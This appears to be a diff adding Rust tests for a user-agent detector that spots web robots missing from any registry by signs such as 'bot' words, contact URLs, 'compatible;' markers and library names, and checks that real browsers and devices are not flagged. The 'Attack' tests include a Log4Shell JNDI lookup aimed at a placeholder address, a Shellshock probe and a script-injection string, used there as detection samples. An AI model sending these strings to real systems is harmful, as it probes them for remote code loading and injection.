@@ -1,0 +1,189 @@
+//! Robots that no registry lists.
+
+use std::sync::Arc;
+
+use proptest::prelude::*;
+use robot_detection::{
+    detect::{Claim, Detector, Sign, UNLISTED, browsers},
+    registry::{Pattern, PatternKind, Purpose, Robot, Source, bundled},
+};
+
+fn nothing_listed() -> Detector {
+    Detector::new([]).unwrap().recognise_unlisted(true)
+}
+
+/// Sign of an unlisted robot, and the text that is it.
+fn sign(user_agent: &str) -> Option<(Sign, &str)> {
+    match nothing_listed().identify(user_agent.as_bytes())? {
+        Claim::Unlisted(unlisted) => Some((unlisted.sign, &user_agent[unlisted.range])),
+        Claim::Listed(listed) => panic!("{} is listed", listed.robot.id),
+    }
+}
+
+macro_rules! signs {
+    ($($name:ident: $sign:ident { $($user_agent:literal => $text:literal;)* })*) => {$(
+        #[test]
+        fn $name() {
+            $(assert_eq!(sign($user_agent), Some((Sign::$sign, $text)), "{}", $user_agent);)*
+        }
+    )*};
+}
+
+signs! {
+    robots_call_themselves_so: Word {
+        "examplebot/1.0" => "bot";
+        "Mozilla/5.0 (compatible; Example-Bot 2; +https://example.com/)" => "Bot";
+        "ExampleBots" => "Bot";
+        "exampleBotNews/2" => "Bot";
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36 (example crawler)" => "crawl";
+        "ExampleSpider" => "Spider";
+        "Example Link Checker" => "Checker";
+        "Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/60.0 PageMonitor/3" => "Monitor";
+        // In front of the second comment stands the device, behind it the robot.
+        "Mozilla/5.0 (Linux; Android 14; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36 (compatible; examplebot/1.0)" => "bot";
+    }
+    a_url_says_whose_robot_it_is: Url {
+        "Mozilla/5.0 (X11; Linux x86_64) Example (see https://example.com/about)" => "https://";
+        "Example (www.example.com)" => "www.";
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36 Example/1.0; +example.com" => "+";
+    }
+    an_address_says_whose_robot_it_is: Address {
+        "Example/2 (webmaster@example.com)" => "@";
+        "Example/2 (webmaster at example.com)" => " at ";
+        "Example/2 (webmaster(at)example.com)" => "(at)";
+    }
+    compatible_with_nothing: Compatible {
+        "Mozilla/5.0 (compatible; Example/2.1)" => "compatible;";
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; Example) Chrome/130.0 Safari/537.36" => "compatible;";
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Example-Render) Chrome/130.0 Safari/537.36" => "like Gecko; ";
+    }
+    attacks_are_made_by_programs: Attack {
+        "${jndi:ldap://192.0.2.1/a}" => "${";
+        "() { :; }; echo vulnerable" => "() {";
+        "<script>alert(1)</script>" => "<script";
+    }
+    libraries_say_so_first: Library {
+        "python-example/3.1" => "python-example";
+        "libcurl-agent/1.0" => "libcurl-agent";
+        "PHP/8.3" => "PHP";
+    }
+    programs_have_no_device: Program {
+        "Example Search 2" => "Search";
+        "link-example" => "link";
+        "example.com" => "example.com";
+        "Example::Mechanics/1.4" => "Example::Mechanics";
+        "wide-example/3.2.1" => "wide-example";
+        "Example/1.0" => "Example";
+    }
+}
+
+#[test]
+fn people_are_no_robots() {
+    for user_agent in [
+        "",
+        "-",
+        "Mozilla/5.0",
+        // Devices whose names sound like robots.
+        "Mozilla/5.0 (Linux; Android 7.0; CUBOT_NOTE Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 6.0; IDbot553 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 8.0; jackpot2lte) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0 Mobile Safari/537.36",
+        "Mozilla/5.0 (Linux; Android 5.1; WIKO FEVER 4G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0 Mobile Safari/537.36",
+        "UCWEB/2.0 (MIDP-2.0; U; Adr 6.0; en; CUBOT_ECHO) U2/1.0.0 UCBrowser/9.9.0 Mobile",
+        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0 Safari/537.36 HbbTV/1.6.1 (+DRM; LGE/BOTECH; 58B; W22;)",
+        // URLs and addresses that are not a robot's.
+        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR 2.0.50727)",
+        "Mozilla/5.0 (Linux; U; Android 4.2; en-us; Y600 Build/A) AppleWebKit/534.30 (KHTML, like Gecko) Mobile Safari/534.30 x-wap-profile http://phones.example/y600.xml",
+        "Mozilla/5.0 (Linux; U; Android 2.3; en-us; R800xhttp://phones.example/UAprof/R800.xml Build/3.0) AppleWebKit/533.1 (KHTML, like Gecko) Mobile Safari/533.1",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/605.1.15 (Ecosia ios@11.0.2.2268)",
+        "Mozilla/5.0 (Linux; Android 4.0.3; Tab Build/ICS@ROM_04.06.2012) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0 Safari/535.19",
+        "Example/3 Android/12 (www.example.com)",
+        "(Android)(10)(somebody@example.com)(Phone)(com.example.app)",
+        // Browsers that call themselves compatible, or write their engine so.
+        "Mozilla/5.0 (compatible; Konqueror/4.4; Linux) KHTML/4.4.5 (like Gecko)",
+        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
+        "Mozilla/4.0 (compatible;)",
+        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/418.8 (KHTML, like Gecko, Safari) Cheshire/1.0",
+        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en-US; rv:1.8.1) Gecko/20061013 Camino/1.0+ (Firefox compatible)",
+        // Apps and telephones.
+        "Nokia6230/2.0 (05.50) Profile/MIDP-2.0 Configuration/CLDC-1.1",
+        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A)",
+        "Example/12 CFNetwork/1410.0.3 Darwin/22.6.0",
+        "Example-Player/2.0 (Windows NT 10.0)",
+        "ExamplePod/1.0",
+    ] {
+        assert_eq!(sign(user_agent), None, "{user_agent}");
+    }
+}
+
+#[test]
+fn no_browser_of_the_self_test_is_a_robot() {
+    let detector = nothing_listed();
+    for browser in browsers() {
+        assert_eq!(detector.identify(browser.as_bytes()), None, "{browser}");
+    }
+}
+
+#[test]
+fn listed_robots_go_before_unlisted_ones() {
+    let mut robot = Robot::new("ex", Source::manual());
+    robot.patterns = vec![Pattern::new(PatternKind::Token, "Ex")];
+    let detector = Detector::new([Arc::new(robot)])
+        .unwrap()
+        .recognise_unlisted(true);
+    let id = |user_agent: &str| {
+        detector
+            .identify(user_agent.as_bytes())
+            .map(|claim| claim.id().to_owned())
+    };
+    assert_eq!(
+        id("Ex/1.0 crawler (+https://example.com)").as_deref(),
+        Some("ex")
+    );
+    assert_eq!(id("crawler for ex").as_deref(), Some("ex"));
+    assert_eq!(id("crawler").as_deref(), Some(UNLISTED));
+}
+
+#[test]
+fn unlisted_robots_are_recognised_only_where_wanted() {
+    let robots = || bundled().robots.into_iter().map(Arc::new);
+    let text = b"Mozilla/5.0 (compatible; examplebot/1.0)";
+    let detector = Detector::new(robots()).unwrap();
+    assert!(!detector.recognises_unlisted());
+    assert_eq!(detector.identify(text), None);
+    assert_eq!(detector.identify(b"Example/1.0"), None);
+    let detector = detector.recognise_unlisted(true);
+    let claim = detector.identify(text).unwrap();
+    assert_eq!((claim.id(), claim.purpose()), (UNLISTED, Purpose::Unknown));
+    assert_eq!(claim.to_string(), "robot word");
+    assert!(claim.robot().is_none() && claim.pattern().is_none());
+}
+
+#[test]
+fn what_a_sign_tells_of_the_purpose_is_kept() {
+    let detector = nothing_listed();
+    let purpose = |user_agent: &[u8]| detector.identify(user_agent).map(|claim| claim.purpose());
+    assert_eq!(purpose(b"python-example/3.1"), Some(Purpose::Library));
+    assert_eq!(purpose(b"${jndi:dns://192.0.2.1}"), Some(Purpose::Scanner));
+    assert_eq!(purpose(b"examplebot"), Some(Purpose::Unknown));
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_are_read(text in prop::collection::vec(any::<u8>(), 0..300)) {
+        if let Some(claim) = nothing_listed().identify(&text) {
+            prop_assert!(claim.range().end <= text.len());
+        }
+    }
+
+    #[test]
+    fn any_words_are_read(words in prop::collection::vec(
+        prop::sample::select(vec!["bot", "Mozilla/5.0", " (", "compatible;", ")", "like Gecko; ", "http://", "@", "+", "a.example", "Android", "cu", "s", "/1.0", " ", "${"]), 0..12,
+    )) {
+        let text = words.concat();
+        if let Some(claim) = nothing_listed().identify(text.as_bytes()) {
+            prop_assert!(claim.range().end <= text.len());
+        }
+    }
+}
